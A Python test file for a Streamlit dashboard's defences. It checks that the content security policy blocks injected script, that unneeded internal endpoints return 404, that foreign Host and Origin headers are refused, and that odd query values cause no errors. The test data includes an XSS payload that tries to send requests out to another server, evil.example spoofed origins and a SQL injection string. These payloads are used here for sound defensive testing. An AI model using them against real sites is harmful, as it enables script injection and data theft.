"""The server as others meet it: what it answers, whom, and what a browser lets its pages do."""

from __future__ import annotations

import asyncio
import json
import os
import random
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPConnection
from itertools import product
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from browser import DESIGN, downloaded, opened, ours, settled, unfolded
from playwright.sync_api import expect
from seeds import SEED
from servers import Handler, answering, free_port
from starlette.responses import PlainTextResponse
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from visitor import connected, drawn, shown
from websockets.exceptions import InvalidStatus

from dashboard.guard.doors import Doors

ROOT = Path(__file__).parent.parent


def asked(app: str, path: str, method: str = "GET", **headers: str) -> tuple[int, str]:
    """Status and body of an answer, the path sent as it stands."""
    place = urlsplit(app)
    connection = HTTPConnection(place.hostname, place.port, timeout=30)
    connection.request(method, path, headers=headers)
    answer = connection.getresponse()
    body = answer.read().decode("utf-8", "replace")
    connection.close()
    return answer.status, body


class Elsewhere(Handler):
    """Another server of this machine, that keeps what reaches it."""

    heard: list[str] = []

    def do_GET(self):
        self.heard.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()


# As an attacker would who has got HTML, or a call, into our page.
ATTACK = """async elsewhere => {
    const stopped = [], settled = new Promise(done => setTimeout(done, 1500));
    addEventListener("securitypolicyviolation", e => stopped.push(`${e.effectiveDirective} ${e.blockedURI}`));
    const place = document.createElement("div");
    document.body.append(place);
    place.innerHTML = `<img src="data:," onerror="window.ran = 'onerror'"><img src="${elsewhere}/img">
        <a href="javascript:window.ran = 'link'">x</a><iframe srcdoc="<script>parent.ran='frame'</script>">
        </iframe><style>body { background: url(${elsewhere}/style) }</style>`;
    for (const [name, value] of [["textContent", "window.ran = 'inline'"], ["src", `${elsewhere}/script`]]) {
        place.append(Object.assign(document.createElement("script"), { [name]: value }));
    }
    place.querySelector("a").click();
    await fetch(`${elsewhere}/fetch`).catch(() => 0);
    navigator.sendBeacon(`${elsewhere}/beacon`, "x");
    try { new WebSocket(`${elsewhere.replace("http", "ws")}/socket`); } catch (error) { stopped.push(`${error}`); }
    await settled;
    place.remove();
    return [window.ran ?? "nothing", stopped.sort()];
}"""  # fmt: skip


def test_a_script_that_is_brought_into_the_page_neither_runs_nor_sends(page, app):
    opened(page, f"{app}/sources")
    with answering(Elsewhere) as elsewhere:
        ran, stopped = page.evaluate(ATTACK, elsewhere)
    assert ran == "nothing"
    assert not Elsewhere.heard
    for told in ("script-src-attr inline", "script-src-elem inline", f"script-src-elem {elsewhere}/script",
                 f"connect-src {elsewhere}/fetch", f"connect-src {elsewhere}/beacon",
                 f"connect-src {elsewhere.replace('http', 'ws')}/socket",
                 f"img-src {elsewhere}/img"):  # fmt: skip
        assert told in stopped, stopped


CHARTS = ["stage?stage=co-design"]
MORE = ["flow?chart=cumulative", "pipeline?show=runs", "stage?look=survival", "stage?look=ages", "stage?look=limits", "map", "sources", "catalogue",
        *(f"flow?chart={chart}" for chart in ("ageing", "lead", "throughput", "work", "moves",
          "behaviour", "survival", "forecast", "compare")),
        *(f"pipeline?show={show}" for show in ("weeks", "errors", "failing", "recovery", "speed"))]  # fmt: skip


@pytest.mark.parametrize(
    "path", [*CHARTS, *(pytest.param(path, marks=pytest.mark.more) for path in MORE)]
)
def test_the_policy_stops_nothing_of_ours(page, app, path):
    page.goto(f"{app}/{path}")  # all of it anew: the first line of script is Streamlit's page's own
    settled(page)
    if path in CHARTS:
        expect(page.locator("[data-testid=stVegaLiteChart] svg").first).to_be_visible()
    if page.get_by_text("The numbers behind this chart").count():
        unfolded(page)
        assert downloaded(page, "csv")
    opened(page, f"{app}/?stream={DESIGN}")
    page.locator(".strip article .why").first.click()
    expect(page.locator("h1")).to_have_text("Discover")
    assert not ours(page.errors)


CLOSED = ["/_stcore/metrics", "/_stcore/metrics/", "/_stcore/metrics?families=x", "/%5fstcore/metrics",
          "/stage/_stcore/metrics", "/_stcore/upload_file/a/b", "/_stcore/agent/openapi.json",
          "/_stcore/agent/mcp", "/_stcore/agent/interact", "/_stcore/bidi-components/a/b",
          "/_stcore/script-health-check", "/_stcore/", "/component/a/b", "/app/static/app.py",
          "/auth/login", "/auth/logout", "/oauth2callback?state=x"]  # fmt: skip


def test_what_the_pages_do_not_need_is_closed(app):
    for path in CLOSED:
        assert asked(app, path) == (404, "There is nothing here."), path
        assert asked(app, path, "POST")[0] == 404, path
    for path in (
        "/_stcore/health",
        "/_stcore/host-config",
        "/healthz",
        "/boxes.js",
        "/flow?chart=x",
    ):
        assert asked(app, path)[0] == 200, path
    assert asked(app, "/_stcore/host-config")[1].startswith('{"allowedOrigins":[],')


NAMES = [
    "evil.example",
    "localhost.evil.example",
    "evil.example:8501",
    "",
    "[::1",
    "192.0.2.1",
    "localhost@evil.example",
]


def test_a_name_or_a_page_that_is_not_ours_gets_nothing(app):
    """What another page may have a visitor's browser ask, by a name of its own for this machine."""
    for name in NAMES:
        status, said = asked(app, "/healthz", Host=name)
        assert (status, "docs/server.md" in said) == (403, True), name
    port = urlsplit(app).port
    for path, origin in product(
        ("/", "/healthz"), ("http://evil.example", f"http://localhost:{port + 1}", "null")
    ):
        assert asked(app, path, Origin=origin) == (
            403,
            "This dashboard answers its own pages only.",
        )
    assert asked(app, "/healthz", Origin=app)[0] == 200
    for headers in ({"Origin": "http://localhost:1"}, {"Origin": "http://evil.example"}):
        with pytest.raises(InvalidStatus, match="403"):
            connected(app, **headers)
    evil = f"evil.example:{port}"  # whose name has come to mean this machine
    socket = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13",
              "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA=="}  # fmt: skip
    asking = {"Host": evil, "Origin": f"http://{evil}", **socket}
    assert asked(app, "/_stcore/stream", **asking)[0] == 403


@pytest.mark.parametrize("address", ["0.0.0.0", pytest.param("::", marks=pytest.mark.more)])
@pytest.mark.more
def test_a_server_that_others_could_reach_does_not_start(example, address):
    command = [sys.executable, "-m", "streamlit", "run", "app.py", "--server.headless", "true"]
    done = subprocess.run(
        [*command, "--server.port", str(free_port()), "--server.address", address], cwd=ROOT,
        env=os.environ | {"VALUESTREAM_DATA": str(example)}, capture_output=True, text=True,
        timeout=120,
    )  # fmt: skip
    assert done.returncode == 2
    assert (
        f"Without sign-in this dashboard answers on this machine only, and at {address} others"
        in done.stderr
    )
    assert "Traceback" not in done.stderr


def test_a_request_from_elsewhere_is_refused_however_the_server_was_started():
    """Another server that holds the app may listen everywhere: it says where a request came in."""
    guarded = Doors(PlainTextResponse("within"))
    for address, status in (("192.0.2.2", 403), ("::ffff:192.0.2.2", 403), ("2001:db8::1", 403),
                            ("127.0.0.1", 200), ("::1", 200), ("::ffff:127.0.0.1", 200)):  # fmt: skip
        scope = {"type": "http", "method": "GET", "path": "/", "server": (address, 8501),
                 "headers": [(b"host", b"localhost:8501")]}  # fmt: skip
        with ThreadPoolExecutor() as thread:  # this one may have a loop of Playwright's
            assert thread.submit(asyncio.run, answered(scope, guarded)).result() == status, address


async def answered(scope: dict, guarded: Doors) -> int:
    """The status that the doors, before an app that answers 200, give a request."""
    sent: list[dict] = []

    async def send(message: dict) -> None:
        sent.append(message)

    await guarded(scope, None, send)
    return sent[0]["status"]


ODD = ["", "nan", "inf", "1e400", "-1", "1e3", "٣", "9" * 400, "x" * 100_000, "‮😀", "<b>",
       "'; drop table stream; --", "0001-01-01", "9999-12-31", "99999-01-01", "2026-W01-1",
       "2026-05-02T00:00"]  # fmt: skip
RAW = ["%00", "%ff", "%ed%a0%80", "&&==&", "a&{0}=b&{0}=nan", "%"]
KEYS = {
    "/": ["stream", "as_of", "embed", "embed_options"],
    "/stage": ["stage", "part", "blocked", "text", "look", "measure", "as_of"],
    "/flow": ["chart"],
    "/flow?chart=lead": ["of"],
    "/flow?chart=forecast": ["weeks", "items", "of"],
    "/flow?chart=compare": ["by", "one", "other", "period_0", "period_3"],
    "/pipeline": ["show", "process", "as_of"],
    "/map": ["as_of"],
    "/sources": ["stream"],
    "/catalogue": ["find", "entry"],
}  # fmt: skip


def odd_addresses() -> list[str]:
    """Every key of every page with every odd value."""
    values = [*map(quote, ODD), *RAW]
    keys = [(page + ("&" if "?" in page else "?"), key) for page in KEYS for key in KEYS[page]]
    return [f"{start}{key}={value.format(key)}" for (start, key), value in product(keys, values)]


def opens(app: str, addresses: list[str]) -> None:
    with connected(app) as connection:
        for address in addresses:
            messages = shown(connection, address)
            assert messages[-1].script_finished == ForwardMsg.FINISHED_SUCCESSFULLY, address[:200]
            kinds = {element.WhichOneof("type") for element in drawn(messages)}
            assert kinds and "exception" not in kinds, address[:200]


def test_no_address_is_an_error(app):
    """A share of them, another with each seed; make more opens them all."""
    opens(app, random.Random(SEED).sample(odd_addresses(), 12))
    with connected(app) as connection:
        for told in ("nan", "inf", "1e400", "-1", "٣"):
            page = drawn(shown(connection, f"/flow?chart=forecast&weeks={quote(told)}"))
            said = [json.loads(element.bidi_component.json or "[]") for element in page]
            assert f"Weeks ahead: '{told}' is no whole number from 1 to 104; 13" in str(said)


@pytest.mark.more
def test_no_odd_address_at_all_is_an_error(app):
    opens(app, odd_addresses())
